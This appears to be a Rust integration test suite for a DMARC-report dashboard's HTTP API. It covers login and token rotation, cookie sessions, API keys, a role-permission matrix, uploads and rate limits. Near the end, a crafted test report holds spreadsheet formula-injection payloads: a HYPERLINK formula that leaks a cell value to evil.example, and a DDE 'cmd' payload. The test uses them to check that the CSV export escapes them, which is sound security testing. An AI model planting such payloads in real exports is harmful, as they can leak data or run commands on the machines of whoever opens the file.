//! The HTTP API over a real socket: token lifecycle, API keys, the RBAC matrix, upload of
//! the corpus, rate limits and body limits. The server runs in this process on
//! 127.0.0.1:0 over a real SQLite file (and PostgreSQL where noted).
//!
//! The suite stays whole in one file: every file under `tests/` is a test binary of its
//! own, linked against the whole crate graph, so one suite per subject keeps builds short.

mod support;

use std::collections::HashSet;

use dmarc_core::{ParseOptions, Report};
use dmarc_store::Role;
use dmarc_store::testing;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use support::server::*;

#[tokio::test]
async fn token_lifecycle() {
    let server = sqlite_server().await;
    server.user("ana@example.com", Role::Analyst).await;

    // Wrong password and unknown address: the same answer.
    let wrong = server.login("ana@example.com", "not the password").await;
    let unknown = server.login("nobody@example.com", PASSWORD).await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
    assert_eq!(unknown.status, StatusCode::UNAUTHORIZED);
    assert_eq!(wrong.body, unknown.body);
    assert_eq!(wrong.body["error"]["code"], "unauthorized");

    let login = server.login(" ANA@example.com ", PASSWORD).await;
    assert_eq!(login.status, StatusCode::OK);
    assert_eq!(login.body["token_type"], "bearer");
    assert_eq!(login.body["expires_in"], 900);
    let access = Auth::Bearer(login.body["access_token"].as_str().unwrap().to_owned());
    let refresh1 = login.body["refresh_token"].as_str().unwrap().to_owned();
    let me = server.call(Method::GET, "/users/me", &access, None).await;
    assert_eq!(me.status, StatusCode::OK);
    assert_eq!(me.body["email"], "ana@example.com");
    assert_eq!(me.body["role"], "analyst");
    assert!(me.body.get("password_hash").is_none());

    // Refresh rotates: a new pair; the old refresh token is spent.
    let rotated = server.refresh(&refresh1).await;
    assert_eq!(rotated.status, StatusCode::OK, "{}", rotated.body);
    let refresh2 = rotated.body["refresh_token"].as_str().unwrap().to_owned();
    let access2 = Auth::Bearer(rotated.body["access_token"].as_str().unwrap().to_owned());
    assert_ne!(refresh1, refresh2);
    assert_eq!(
        server
            .call(Method::GET, "/users/me", &access2, None)
            .await
            .status,
        StatusCode::OK
    );

    // Replaying the rotated token revokes the family: the newest refresh token and every
    // access token of the session stop working.
    let replay = server.refresh(&refresh1).await;
    assert_eq!(replay.status, StatusCode::UNAUTHORIZED);
    assert!(
        replay.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("already used")
    );
    assert_eq!(
        server.refresh(&refresh2).await.status,
        StatusCode::UNAUTHORIZED
    );
    for token in [&access, &access2] {
        assert_eq!(
            server
                .call(Method::GET, "/users/me", token, None)
                .await
                .status,
            StatusCode::UNAUTHORIZED
        );
    }

    // Logout ends the session's access and refresh tokens.
    let (access3, refresh3) = server.tokens("ana@example.com").await;
    let access3 = Auth::Bearer(access3);
    let logout = server
        .call(Method::POST, "/auth/logout", &access3, None)
        .await;
    assert_eq!(logout.status, StatusCode::NO_CONTENT);
    assert_eq!(
        server
            .call(Method::GET, "/users/me", &access3, None)
            .await
            .status,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        server.refresh(&refresh3).await.status,
        StatusCode::UNAUTHORIZED
    );

    // Garbage and tampered tokens.
    let garbage = server
        .call(
            Method::GET,
            "/users/me",
            &Auth::Bearer("x.y.z".into()),
            None,
        )
        .await;
    assert_eq!(garbage.status, StatusCode::UNAUTHORIZED);
    assert!(garbage.headers.contains_key("www-authenticate"));

    // The audit log saw it all.
    let actions: Vec<String> = server
        .store
        .audit_entries(None, dmarc_store::Page::first(100))
        .await
        .unwrap()
        .items
        .into_iter()
        .map(|e| e.action)
        .collect();
    for action in [
        "login.failure",
        "login.success",
        "session.refresh_reuse",
        "logout",
    ] {
        assert!(
            actions.iter().any(|a| a == action),
            "{action} in {actions:?}"
        );
    }
}

/// The `Set-Cookie` of `name` in `answer`: its value and attributes.
fn set_cookie<'a>(answer: &'a Answer, name: &str) -> Option<&'a str> {
    answer
        .headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with(&format!("{name}=")))
}

/// The value of a `Set-Cookie` header (`name=value; attributes`).
fn cookie_value(set_cookie: &str) -> &str {
    let pair = set_cookie.split(';').next().expect("a pair");
    pair.split_once('=').expect("name=value").1
}

/// A login as the dashboard makes it: the refresh token in a cookie.
async fn browser_login(server: &Server, email: &str) -> Answer {
    let body = json!({ "email": email, "password": PASSWORD, "cookie": true });
    server
        .call(Method::POST, "/auth/login", &Auth::None, Some(body))
        .await
}

/// A browser session: the refresh token lives in an `HttpOnly`, `SameSite=Strict` cookie
/// for `/auth` and never in a body a page script reads; refreshing by cookie needs the
/// CSRF header and rotates the cookie; a spent or logged-out cookie is refused and deleted.
#[tokio::test]
async fn browser_sessions_keep_the_refresh_token_in_a_cookie() {
    let server = sqlite_server().await;
    server.user("bo@example.com", Role::Viewer).await;
    let login = browser_login(&server, "bo@example.com").await;
    assert_eq!(login.status, StatusCode::OK, "{}", login.body);
    assert!(login.body.get("refresh_token").is_none(), "{}", login.body);
    assert!(login.body["access_token"].is_string());
    let set = set_cookie(&login, "dmarc_refresh").expect("the refresh cookie");
    for attribute in [
        "Path=/auth",
        "HttpOnly",
        "SameSite=Strict",
        "Max-Age=604800",
    ] {
        assert!(set.contains(attribute), "{attribute} in {set}");
    }
    assert!(!set.contains("Secure"), "plain HTTP: {set}");
    let first = cookie_value(set).to_owned();

    let by_cookie = |cookie: String, csrf: bool| {
        let mut request = server
            .http
            .post(format!("{}/auth/refresh", server.base))
            .header("cookie", format!("dmarc_refresh={cookie}"))
            .json(&json!({}));
        if csrf {
            request = request.header("x-requested-with", "dmarc");
        }
        async move { answer(request.send().await.expect("send")).await }
    };
    // Without the header (what a form of another site could send): refused, not spent.
    let forged = by_cookie(first.clone(), false).await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN, "{}", forged.body);
    let refreshed = by_cookie(first.clone(), true).await;
    assert_eq!(refreshed.status, StatusCode::OK, "{}", refreshed.body);
    assert!(refreshed.body.get("refresh_token").is_none());
    let second = cookie_value(set_cookie(&refreshed, "dmarc_refresh").expect("rotated")).to_owned();
    assert_ne!(first, second);
    let access = Auth::Bearer(refreshed.body["access_token"].as_str().unwrap().to_owned());
    let me = server.call(Method::GET, "/users/me", &access, None).await;
    assert_eq!(me.body["email"], "bo@example.com");

    // Logout ends the session and deletes the cookie; the cookie no longer refreshes.
    let logout = server
        .call(Method::POST, "/auth/logout", &access, None)
        .await;
    assert_eq!(logout.status, StatusCode::NO_CONTENT);
    let deleted = set_cookie(&logout, "dmarc_refresh").expect("a deletion");
    assert!(
        deleted.starts_with("dmarc_refresh=;") && deleted.contains("Max-Age=0"),
        "{deleted}"
    );
    let after = by_cookie(second, true).await;
    assert_eq!(after.status, StatusCode::UNAUTHORIZED, "{}", after.body);
    assert!(set_cookie(&after, "dmarc_refresh").is_some_and(|c| c.contains("Max-Age=0")));
    // No cookie at all: 401 naming what to send.
    let none = server
        .http
        .post(format!("{}/auth/refresh", server.base))
        .header("x-requested-with", "dmarc")
        .json(&json!({}))
        .send()
        .await
        .expect("send");
    assert_eq!(none.status(), StatusCode::UNAUTHORIZED);

    // Behind TLS the cookie is `Secure`.
    let behind_tls = start(testing::sqlite(), |c| c.tls_in_front = true).await;
    behind_tls.user("bo@example.com", Role::Viewer).await;
    let login = browser_login(&behind_tls, "bo@example.com").await;
    assert!(set_cookie(&login, "dmarc_refresh").is_some_and(|c| c.contains("; Secure")));
}

#[tokio::test]
async fn access_tokens_expire() {
    let server = start(testing::sqlite(), |c| c.auth.access_token_ttl = 1).await;
    server.user("v@example.com", Role::Viewer).await;
    let (access, refresh) = server.tokens("v@example.com").await;
    let access = Auth::Bearer(access);
    assert_eq!(
        server
            .call(Method::GET, "/users/me", &access, None)
            .await
            .status,
        StatusCode::OK
    );
    tokio::time::sleep(std::time::Duration::from_millis(2100)).await;
    let expired = server.call(Method::GET, "/users/me", &access, None).await;
    assert_eq!(expired.status, StatusCode::UNAUTHORIZED);
    assert!(
        expired.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("expired")
    );
    // The refresh token still gives a new access token.
    assert_eq!(server.refresh(&refresh).await.status, StatusCode::OK);
}

#[tokio::test]
async fn api_keys_are_shown_once_used_and_revoked() {
    let server = sqlite_server().await;
    server.user("ci@example.com", Role::Analyst).await;
    let (access, _) = server.tokens("ci@example.com").await;
    let access = Auth::Bearer(access);
    let created = server
        .call(
            Method::POST,
            "/users/api-keys",
            &access,
            Some(json!({ "name": "nightly import" })),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let key = created.body["key"].as_str().unwrap().to_owned();
    let id = created.body["id"].as_i64().unwrap();
    assert!(key.starts_with("dmk_") && key.len() == 68, "{key}");
    assert_eq!(created.body["prefix"], key[..12]);

    let with_key = Auth::Key(key.clone());
    let me = server.call(Method::GET, "/users/me", &with_key, None).await;
    assert_eq!(me.body["email"], "ci@example.com");
    let upload = server.upload(&with_key, &[one_report()]).await;
    assert_eq!(upload.status, StatusCode::OK, "{}", upload.body);

    let listed = server
        .call(Method::GET, "/users/api-keys", &access, None)
        .await;
    assert_eq!(listed.body.as_array().unwrap().len(), 1);
    assert!(
        listed.body[0].get("key").is_none(),
        "the key is never shown again"
    );
    assert!(listed.body[0]["last_used_at"].is_i64(), "use recorded");

    // A key cannot mint keys or manage accounts.
    let minted = server
        .call(
            Method::POST,
            "/users/api-keys",
            &with_key,
            Some(json!({ "name": "x" })),
        )
        .await;
    assert_eq!(minted.status, StatusCode::FORBIDDEN);

    let revoke = server
        .call(
            Method::DELETE,
            &format!("/users/api-keys/{id}"),
            &access,
            None,
        )
        .await;
    assert_eq!(revoke.status, StatusCode::NO_CONTENT);
    let refused = server
        .call(Method::GET, "/api/domains", &with_key, None)
        .await;
    assert_eq!(refused.status, StatusCode::UNAUTHORIZED);
    let wrong = server
        .call(
            Method::GET,
            "/api/domains",
            &Auth::Key("dmk_nope".into()),
            None,
        )
        .await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
}

/// One row of the RBAC matrix: statuses for anonymous, viewer, analyst, admin, and an
/// analyst's API key.
struct Row {
    method: Method,
    path: String,
    body: Option<Value>,
    expect: [u16; 5],
}

fn row(method: Method, path: &str, body: Option<Value>, expect: [u16; 5]) -> Row {
    Row {
        method,
        path: path.to_owned(),
        body,
        expect,
    }
}

#[tokio::test]
async fn rbac_matrix_over_every_endpoint() {
    let server = sqlite_server().await;
    server.user("viewer@example.com", Role::Viewer).await;
    server.user("analyst@example.com", Role::Analyst).await;
    let admin_id = server.user("admin@example.com", Role::Admin).await;
    let target = server.user("target@example.com", Role::Viewer).await;
    let ingested = server
        .store
        .ingest(&[dmarc_store::prepare(
            "seed.xml",
            &std::fs::read(one_report()).unwrap(),
            &ParseOptions::at(dmarc_store::unix_now()),
        )])
        .await
        .unwrap();
    let report_id = ingested[0][0].report.as_ref().unwrap().id;
    let task_id = server
        .store
        .enqueue(
            &dmarc_store::NewJob {
                kind: "process-reports".into(),
                payload: json!({}),
                max_attempts: 3,
                run_at: 0,
                created_by: "test".into(),
            },
            0,
        )
        .await
        .unwrap()
        .id;

    let viewer = Auth::Bearer(server.tokens("viewer@example.com").await.0);
    let analyst = Auth::Bearer(server.tokens("analyst@example.com").await.0);
    let admin = Auth::Bearer(server.tokens("admin@example.com").await.0);
    let key = server
        .call(
            Method::POST,
            "/users/api-keys",
            &analyst,
            Some(json!({ "name": "matrix" })),
        )
        .await
        .body["key"]
        .as_str()
        .unwrap()
        .to_owned();
    let callers = [Auth::None, viewer, analyst, admin, Auth::Key(key)];
    assert_ne!(admin_id, target);

    let get = |path: &str, expect| row(Method::GET, path, None, expect);
    let read = [401, 200, 200, 200, 200];
    let admin_only = [401, 403, 403, 200, 403];
    let own_account = [401, 200, 200, 200, 403];
    let mut matrix = vec![
        row(
            Method::POST,
            "/auth/login",
            Some(json!({ "email": "x@example.com", "password": "wrong password" })),
            [401; 5],
        ),
        row(
            Method::POST,
            "/auth/refresh",
            Some(json!({ "refresh_token": "dmr_unknown" })),
            [401; 5],
        ),
        get("/users/me", read),
        row(
            Method::POST,
            "/users/me/password",
            Some(json!({ "current_password": "x", "new_password": "short" })),
            [401, 400, 400, 400, 403],
        ),
        get("/users", admin_only),
        row(
            Method::PATCH,
            &format!("/users/{target}"),
            Some(json!({ "role": "viewer" })),
            admin_only,
        ),
        row(
            Method::DELETE,
            "/users/999999",
            None,
            [401, 403, 403, 404, 403],
        ),
        get("/users/api-keys", own_account),
        row(
            Method::POST,
            "/users/api-keys",
            Some(json!({ "name": "k" })),
            [401, 201, 201, 201, 403],
        ),
        row(
            Method::DELETE,
            "/users/api-keys/999999",
            None,
            [401, 404, 404, 404, 403],
        ),
        get("/audit", admin_only),
        get("/api/domains", read),
        get("/api/reports", read),
        get("/api/sources", read),
        get(&format!("/api/reports/{report_id}"), read),
        get("/api/reports/999999", [401, 404, 404, 404, 404]),
        get(
            &format!("/api/reports/{report_id}/input"),
            [401, 403, 200, 200, 200],
        ),
        get("/api/reports/999999/input", [401, 403, 404, 404, 404]),
        get("/api/export/reports/csv", [401, 403, 200, 200, 200]),
        get("/api/export/records/csv", [401, 403, 200, 200, 200]),
        get("/api/export/sources/csv", [401, 403, 200, 200, 200]),
        get("/api/export/report/pdf", [401, 403, 200, 200, 200]),
        get("/health", [200; 5]),
        get("/metrics", admin_only),
        get("/tasks", read),
        get("/tasks/schedules", read),
        get(&format!("/tasks/status/{task_id}"), read),
        get("/tasks/status/999999", [401, 404, 404, 404, 404]),
        row(
            Method::POST,
            "/tasks/trigger/process-reports",
            None,
            [401, 403, 202, 202, 202],
        ),
        row(
            Method::POST,
            "/tasks/trigger/alert-evaluation",
            None,
            [401, 403, 202, 202, 202],
        ),
        get("/alerts/rules", read),
        row(
            Method::POST,
            "/alerts/rules",
            Some(
                json!({ "name": "matrix", "kind": "missing_reports", "severity": "info",
                         "params": { "hours": 48 } }),
            ),
            [401, 403, 403, 201, 403],
        ),
        row(
            Method::PATCH,
            "/alerts/rules/999999",
            Some(json!({ "enabled": false })),
            [401, 403, 403, 404, 403],
        ),
        row(
            Method::DELETE,
            "/alerts/rules/999999",
            None,
            [401, 403, 403, 404, 403],
        ),
        get("/alerts/history", read),
        get("/alerts/analytics", read),
        row(
            Method::PATCH,
            "/alerts/999999/acknowledge",
            None,
            [401, 403, 404, 404, 404],
        ),
        row(
            Method::PATCH,
            "/alerts/999999/resolve",
            None,
            [401, 403, 404, 404, 404],
        ),
        get("/alerts/suppressions", read),
        row(
            Method::POST,
            "/alerts/suppressions",
            Some(json!({ "ends_at": "2999-01-01", "reason": "matrix" })),
            [401, 403, 201, 201, 201],
        ),
        row(
            Method::DELETE,
            "/alerts/suppressions/999999",
            None,
            [401, 403, 404, 404, 404],
        ),
        get("/alerts/digest?days=3650", read),
        get("/analytics/geolocation/map?domain=example.com", read),
        get("/analytics/geolocation/lookup/8.8.8.8", read),
        get(
            "/analytics/geolocation/lookup/not-an-address",
            [401, 400, 400, 400, 400],
        ),
        get("/analytics/ml/models", read),
        get("/analytics/anomalies/recent", read),
        get(
            "/analytics/anomalies/recent?min_score=7",
            [401, 400, 400, 400, 400],
        ),
        row(
            Method::POST,
            "/analytics/ml/train",
            Some(json!({ "days": 7 })),
            [401, 403, 403, 202, 403],
        ),
        row(
            Method::POST,
            "/analytics/ml/train",
            Some(json!({ "sample_size": 1 })),
            [401, 403, 403, 400, 403],
        ),
        row(
            Method::POST,
            "/analytics/ml/deploy",
            Some(json!({ "version": 999 })),
            [401, 403, 403, 404, 403],
        ),
        // No model is deployed here.
        row(
            Method::POST,
            "/analytics/anomalies/detect",
            Some(json!({})),
            [401, 403, 409, 409, 409],
        ),
        get("/alerts/999999/deliveries", [401, 404, 404, 404, 404]),
        // No alert channel is configured here.
        row(
            Method::POST,
            "/alerts/channels/teams/test",
            None,
            [401, 403, 403, 409, 403],
        ),
        row(
            Method::POST,
            "/alerts/channels/pager/test",
            None,
            [401, 403, 403, 400, 403],
        ),
        row(
            Method::POST,
            "/alerts/digest/send",
            Some(json!({})),
            [401, 403, 403, 409, 403],
        ),
        // No mailbox is configured here.
        row(
            Method::POST,
            "/tasks/trigger/email-ingestion",
            None,
            [401, 403, 409, 409, 409],
        ),
    ];
    for rollup in [
        "summary",
        "sources",
        "by-domain",
        "organizations",
        "disposition",
        "alignment",
        "compliance",
        "enforcement",
        "timeline",
        "failure-trend",
    ] {
        matrix.push(get(&format!("/api/rollup/{rollup}?preset=all"), read));
    }
    // Users created with a distinct address per caller, so each answer is the first.
    let mut failures = Vec::new();
    for (i, caller) in callers.iter().enumerate() {
        let email = format!("new{i}@example.com");
        let mut rows: Vec<Row> = matrix
            .iter()
            .map(|r| row(r.method.clone(), &r.path, r.body.clone(), r.expect))
            .collect();
        rows.push(row(
            Method::POST,
            "/users",
            Some(json!({ "email": email, "password": PASSWORD, "role": "viewer" })),
            [401, 403, 403, 201, 403],
        ));
        for r in rows {
            let got = server
                .call(r.method.clone(), &r.path, caller, r.body.clone())
                .await;
            if got.status.as_u16() != r.expect[i] {
                failures.push(format!(
                    "{} {} as caller {i}: {} (expected {}) {}",
                    r.method, r.path, got.status, r.expect[i], got.body
                ));
            }
        }
        let upload = server.upload(caller, &[one_report()]).await;
        let expected = [401, 403, 200, 200, 200][i];
        if upload.status.as_u16() != expected {
            failures.push(format!(
                "upload as caller {i}: {} (expected {expected})",
                upload.status
            ));
        }
    }
    // Logout last: it ends the sessions used above.
    for (i, caller) in callers.iter().enumerate() {
        let got = server
            .call(Method::POST, "/auth/logout", caller, None)
            .await;
        let expected = [401, 204, 204, 204, 403][i];
        if got.status.as_u16() != expected {
            failures.push(format!(
                "logout as caller {i}: {} (expected {expected})",
                got.status
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[tokio::test]
async fn uploading_the_corpus_in_one_request() {
    for db in testing::databases().await {
        let server = start(db, |_| {}).await;
        server.user("up@example.com", Role::Analyst).await;
        let access = Auth::Bearer(server.tokens("up@example.com").await.0);
        let files = corpus_files();
        assert!(
            files.len() > 100 && files.len() <= 200,
            "{} files",
            files.len()
        );
        let upload = server.upload(&access, &files).await;
        assert_eq!(upload.status, StatusCode::OK, "{}", upload.body);
        let outcomes = upload.body["files"].as_array().unwrap();
        assert_eq!(outcomes.len(), files.len(), "one entry per file");
        for (entry, path) in outcomes.iter().zip(&files) {
            assert_eq!(
                entry["file"],
                path.file_name().unwrap().to_string_lossy().as_ref()
            );
            let each = entry["outcomes"].as_array().unwrap();
            assert!(!each.is_empty(), "{}: no outcome", entry["file"]);
            for o in each {
                let status = o["outcome"].as_str().unwrap();
                assert!(["accepted", "duplicate", "rejected"].contains(&status));
                if status == "rejected" {
                    assert!(o["error"]["message"].is_string(), "a reason: {o}");
                }
            }
        }

        // The summary rollup equals the sum of `count` over the distinct reports.
        let parsed: Vec<Report> = files
            .iter()
            .flat_map(|f| {
                dmarc_core::parse_input(
                    &std::fs::read(f).unwrap(),
                    &ParseOptions::at(dmarc_store::unix_now()),
                )
            })
            .filter_map(|p| p.result.ok())
            .collect();
        let payloads = parsed.len();
        let expected = testing::distinct(&parsed);
        let messages: u64 = expected.iter().map(Report::message_count).sum();
        let summary = server
            .call(Method::GET, "/api/rollup/summary", &access, None)
            .await;
        assert_eq!(summary.status, StatusCode::OK);
        assert_eq!(summary.body["messages"], messages, "{}", summary.body);
        // The summary counts reports with at least one record; reports without any (kept
        // with a `no_records` warning) are accepted all the same.
        let with_records = expected.iter().filter(|r| !r.records.is_empty()).count();
        assert!(
            with_records < expected.len(),
            "the corpus has empty reports"
        );
        assert_eq!(summary.body["reports"], with_records);
        assert_eq!(upload.body["summary"]["accepted"], expected.len());
        assert_eq!(upload.body["summary"]["messages"], messages);

        // The sources page: the ranking of the rollup, each address with its activity as
        // the core computes it.
        let activity = dmarc_core::rollup::source_activity(&expected, &Default::default());
        let sources = server
            .call(Method::GET, "/api/sources?limit=5", &access, None)
            .await;
        assert_eq!(sources.status, StatusCode::OK, "{}", sources.body);
        let items = sources.body["items"].as_array().unwrap();
        assert_eq!(items.len(), 5);
        for item in items {
            let ip: std::net::IpAddr = item["source_ip"].as_str().unwrap().parse().unwrap();
            let want = activity
                .iter()
                .find(|a| a.source_ip == ip)
                .expect("in the core");
            assert_eq!(item["messages"], want.tally.messages);
            let got = &item["activity"];
            assert_eq!(got["reporters"], want.reporters, "{item}");
            assert_eq!(got["first_seen"], want.first_seen, "{item}");
            assert_eq!(got["last_seen"], want.last_seen, "{item}");
            assert_eq!(got["days_active"], want.days_active, "{item}");
            assert_eq!(got["rejected"], want.rejected, "{item}");
        }

        // Every accepted report's input downloads byte for byte as uploaded, under its name.
        for (entry, path) in outcomes.iter().zip(&files) {
            let first = &entry["outcomes"][0];
            if first["outcome"] != "accepted" {
                continue;
            }
            let id = first["report"]["id"].as_i64().expect("the stored report");
            let response = authed(
                server
                    .http
                    .get(format!("{}/api/reports/{id}/input", server.base)),
                &access,
            )
            .send()
            .await
            .expect("send");
            assert_eq!(response.status(), StatusCode::OK);
            // Named as uploaded, with only safe characters.
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            let safe: String = name
                .chars()
                .map(|c| {
                    if c.is_ascii_alphanumeric() || "._-+@".contains(c) {
                        c
                    } else {
                        '_'
                    }
                })
                .collect();
            let header = response.headers()["content-disposition"].to_str().unwrap();
            let given = header
                .strip_prefix("attachment; filename=\"")
                .and_then(|n| n.strip_suffix('"'))
                .expect(header);
            assert_eq!(given, safe);
            assert_eq!(response.headers()["x-dmarc-truncated"], "false");
            let bytes = response.bytes().await.expect("bytes");
            assert!(bytes[..] == std::fs::read(path).unwrap()[..], "{name}");
        }

        // Again: every report payload is a duplicate, nothing new.
        let again = server.upload(&access, &files).await;
        assert_eq!(again.body["summary"]["accepted"], 0);
        assert_eq!(again.body["summary"]["duplicate"], payloads);
    }
}

#[tokio::test]
async fn limits_answer_with_clear_statuses() {
    let server = start(testing::sqlite(), |c| {
        c.limits.csv_exports_per_minute = 2;
        c.limits.pdf_exports_per_minute = 1;
        c.auth.login_attempts_per_minute = 3;
        c.limits.upload_max_files = 2;
        c.limits.upload_max_file_bytes = 4096;
        c.limits.json_max_bytes = 1024;
        c.limits.uploads_per_minute = 100;
    })
    .await;
    server.user("l@example.com", Role::Analyst).await;
    let access = Auth::Bearer(server.tokens("l@example.com").await.0);
    // Login: 3 failures per minute per client (the success above does not count).
    let mut statuses = Vec::new();
    for _ in 0..4 {
        statuses.push(server.login("l@example.com", "wrong password!").await);
    }
    assert_eq!(statuses[2].status, StatusCode::UNAUTHORIZED);
    let limited = statuses.last().unwrap();
    assert_eq!(limited.status, StatusCode::TOO_MANY_REQUESTS);
    let retry: u64 = limited.headers["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&retry), "Retry-After {retry}");
    assert_eq!(limited.body["error"]["code"], "rate_limited");

    // Too many files; one file over the size limit is rejected alone.
    let big = corpus().join("aggregate").join(
        std::fs::read_dir(corpus().join("aggregate"))
            .unwrap()
            .map(|e| e.unwrap())
            .find(|e| e.metadata().unwrap().len() > 4096)
            .expect("a file over 4 KiB")
            .file_name(),
    );
    let three = server
        .upload(&access, &[one_report(), big.clone(), one_report()])
        .await;
    assert_eq!(three.status, StatusCode::PAYLOAD_TOO_LARGE);
    // Files are ingested as they arrive: those before the limit were processed (the
    // report is kept, the oversized file refused), and the answer says so.
    let message = three.body["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("2 file(s) before it were processed"),
        "{message}"
    );
    let two = server.upload(&access, &[one_report(), big]).await;
    assert_eq!(two.status, StatusCode::OK);
    assert_eq!(two.body["files"][0]["outcomes"][0]["outcome"], "duplicate");
    let refused = &two.body["files"][1]["outcomes"][0];
    assert_eq!(refused["outcome"], "rejected");
    assert_eq!(refused["error"]["kind"], "limit_exceeded");

    // JSON bodies over the limit.
    let huge = json!({ "name": "x".repeat(2000) });
    let too_big = server
        .call(Method::POST, "/users/api-keys", &access, Some(huge))
        .await;
    assert_eq!(too_big.status, StatusCode::PAYLOAD_TOO_LARGE);

    // CSV exports: 2 per minute here.
    for expected in [200, 200, 429] {
        let got = server
            .call(Method::GET, "/api/export/sources/csv", &access, None)
            .await;
        assert_eq!(got.status.as_u16(), expected);
        if expected == 429 {
            assert!(got.headers.contains_key("retry-after"));
        }
    }

    // PDF summaries: 1 per minute here.
    for expected in [200, 429] {
        let got = server
            .call(Method::GET, "/api/export/report/pdf", &access, None)
            .await;
        assert_eq!(got.status.as_u16(), expected);
        if expected == 429 {
            assert!(got.headers.contains_key("retry-after"));
        }
    }

    // Bad filters name the parameter.
    let bad = server
        .call(
            Method::GET,
            "/api/reports?source_ip=1.2.3.999",
            &access,
            None,
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(
        bad.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("source_ip")
    );
}

#[tokio::test]
async fn responses_carry_request_ids_and_security_headers() {
    let server = sqlite_server().await;
    let health = server.call(Method::GET, "/health", &Auth::None, None).await;
    assert_eq!(health.status, StatusCode::OK);
    assert_eq!(health.body["database"], "ok");
    for header in [
        "x-request-id",
        "x-content-type-options",
        "x-frame-options",
        "content-security-policy",
        "referrer-policy",
    ] {
        assert!(health.headers.contains_key(header), "{header}");
    }
    let missing = server.call(Method::GET, "/nope", &Auth::None, None).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert_eq!(missing.body["error"]["code"], "not_found");
}

/// A report whose strings are spreadsheet formulas.
const CRAFTED: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<feedback>
  <report_metadata>
    <org_name>=HYPERLINK("http://evil.example/?"&amp;A1,"click")</org_name>
    <email>-2+3@evil.example</email>
    <report_id>@SUM(1+1)</report_id>
    <date_range><begin>1714521600</begin><end>1714607999</end></date_range>
  </report_metadata>
  <policy_published><domain>example.com</domain><p>reject</p></policy_published>
  <record>
    <row>
      <source_ip>192.0.2.1</source_ip>
      <count>7</count>
      <policy_evaluated><disposition>reject</disposition><dkim>fail</dkim><spf>fail</spf></policy_evaluated>
    </row>
    <identifiers><header_from>+cmd|' /C calc'!A0</header_from><envelope_from>-1+2.example</envelope_from></identifiers>
    <auth_results><spf><domain>x.example</domain><result>fail</result></spf></auth_results>
  </record>
</feedback>"#;

async fn csv_text(server: &Server, auth: &Auth, path: &str) -> (Answer, String) {
    let request = server.http.get(format!("{}{path}", server.base));
    let response = authed(request, auth).send().await.expect("send");
    let status = response.status();
    let headers = response.headers().clone();
    let text = response.text().await.expect("body");
    (
        Answer {
            status,
            headers,
            body: Value::Null,
        },
        text,
    )
}

#[tokio::test]
async fn csv_exports_neutralise_formulas_and_follow_filters() {
    let server = sqlite_server().await;
    server.user("x@example.com", Role::Analyst).await;
    let access = Auth::Bearer(server.tokens("x@example.com").await.0);
    let dir = tempfile::tempdir().unwrap();
    let crafted = dir.path().join("crafted.xml");
    std::fs::write(&crafted, CRAFTED).unwrap();
    let upload = server.upload(&access, &[crafted, one_report()]).await;
    assert_eq!(upload.body["summary"]["accepted"], 2, "{}", upload.body);

    let (answer, records) = csv_text(
        &server,
        &access,
        "/api/export/records/csv?domain=example.com",
    )
    .await;
    assert_eq!(answer.status, StatusCode::OK);
    assert!(
        answer.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert!(
        answer.headers["content-disposition"]
            .to_str()
            .unwrap()
            .contains("dmarc-records.csv")
    );
    let mut reader = csv::Reader::from_reader(records.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 1, "only the crafted report's domain: {records}");
    let cell = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(
        cell("org_name"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(cell("report_id"), "'@SUM(1+1)");
    assert_eq!(cell("header_from"), "'+cmd|' /C calc'!A0");
    // (Tab and CR first are covered by the unit test: the parser trims them from values.)
    assert_eq!(cell("envelope_from"), "'-1+2.example");
    assert_eq!(cell("count"), "7");
    assert_eq!(cell("begin"), "2024-05-01T00:00:00Z");
    for row in &rows {
        for value in row {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{value:?}"
            );
        }
    }

    let (_, reports) = csv_text(&server, &access, "/api/export/reports/csv").await;
    assert_eq!(
        reports.lines().count(),
        3,
        "header and two reports: {reports}"
    );
    assert!(reports.contains("'=HYPERLINK"));
    let (_, sources) = csv_text(
        &server,
        &access,
        "/api/export/sources/csv?dkim=fail&spf=fail",
    )
    .await;
    assert!(
        sources.lines().any(|l| l.starts_with("192.0.2.1,7,0,7,")),
        "{sources}"
    );
}

/// Reporters whose names are not Latin: Cyrillic is drawn, CJK becomes `?`.
const NON_LATIN: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<feedback>
  <report_metadata>
    <org_name>{org}</org_name>
    <email>dmarc@example.net</email>
    <report_id>{id}</report_id>
    <date_range><begin>1714521600</begin><end>1714607999</end></date_range>
  </report_metadata>
  <policy_published><domain>xn--e1afmkfd.example</domain><p>quarantine</p></policy_published>
  <record>
    <row>
      <source_ip>198.51.100.77</source_ip>
      <count>{count}</count>
      <policy_evaluated><disposition>quarantine</disposition><dkim>fail</dkim><spf>fail</spf></policy_evaluated>
    </row>
    <identifiers><header_from>xn--e1afmkfd.example</header_from></identifiers>
    <auth_results><spf><domain>xn--e1afmkfd.example</domain><result>fail</result></spf></auth_results>
  </record>
</feedback>"#;

/// `1234567` as `1,234,567`, as the PDF writes figures.
